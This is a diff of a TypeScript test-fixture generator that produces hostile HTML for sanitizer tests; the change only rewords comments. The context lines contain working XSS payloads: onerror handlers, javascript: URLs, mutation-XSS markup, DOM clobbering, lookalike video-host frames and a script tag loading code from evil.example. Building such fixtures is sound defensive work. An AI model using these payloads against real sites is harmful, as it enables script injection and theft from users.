@@ -1,11 +1,11 @@
 /*
- * Texts of people who want something to run, to be fetched or to be shown where it should not: what the tests of every
- * field give in. `mark` is the code that must never run; `evil.example` is where nothing may ever be fetched from.
+ * Hostile HTML that tries to run code, fetch or display content: input for the tests of every text field. `mark` is
+ * the code that must never run; nothing may ever be fetched from `evil.example`.
  */
 
 const evil = 'https://evil.example';
 
-/** The payloads, each different, each calling `mark(n)` with its own number. */
+/** Distinct payloads, each calling `mark(n)` with its own number. */
 export function hostileHtml(mark = 'hacked'): string[] {
   const recipes = [
     ...handlers(),
@@ -21,7 +21,7 @@ export function hostileHtml(mark = 'hacked'): string[] {
   return [...new Set(recipes)].map((recipe, number) => recipe.replaceAll('CODE', `${mark}(${number})`));
 }
 
-/** Every element with a handler for every event that comes by itself or with a touch. */
+/** Elements combined with handlers of events that fire on their own or on touch. */
 function handlers(): string[] {
   const elements = [
     'img src=x',
@@ -84,7 +84,7 @@ function handlers(): string[] {
   ];
 }
 
-/** Every way of writing an address that runs, at every place that takes one. */
+/** Spellings of script URLs, in every attribute that takes a URL. */
 function addresses(): string[] {
   const running = [
     'javascript:CODE',
@@ -132,7 +132,7 @@ function addresses(): string[] {
 
 const quoted = (address: string): string => address.replaceAll('"', '&quot;');
 
-/** What changes its meaning between one reading and the next. */
+/** Mutation XSS: markup whose meaning changes between two parses. */
 const mutations = [
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CODE&gt;">',
   '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=CODE"></style>',
@@ -186,7 +186,7 @@ const mutations = [
   '<image xlink:href=x onerror=CODE></image>',
 ];
 
-/** Frames of hosts that look like those of videos, and what frames may carry. */
+/** Frames with hosts that resemble the video hosts, and hostile frame attributes. */
 function frames(): string[] {
   const hosts = [
     'www.youtube.com.evil.example',
@@ -230,7 +230,7 @@ function frames(): string[] {
   ];
 }
 
-/** Styles that run, fetch, cover the page or read it. */
+/** Styles that run code, fetch, cover the page or read it. */
 const styles = [
   `<p style="background:url(${evil}/a)">a</p>`,
   `<p style="background-image:url('javascript:CODE')">a</p>`,
@@ -260,7 +260,7 @@ const styles = [
   '<span style="color:rgb(0,0,0);transform:scale(99)">a</span>',
 ];
 
-/** Names that stand in the way of the program's own. */
+/** DOM clobbering: names that shadow the program's own. */
 const clobbering = [
   ...[
     'cookie',
@@ -282,7 +282,7 @@ const clobbering = [
   '<p is=x-y slot=a part=b itemprop=c aria-owns=root role=dialog tabindex=1 accesskey=s>a</p>',
 ];
 
-/** What does something by itself. */
+/** Elements that act on their own. */
 const active = [
   '<script>CODE</script>',
   '<script src="https://evil.example/x.js"></script>',
@@ -339,7 +339,7 @@ const active = [
   '<p popover=manual id=x>a</p><button popovertarget=x>a</button>',
 ];
 
-/** Markup that ends where none does. */
+/** Malformed markup. */
 const broken = [
   '<',
   '<<',
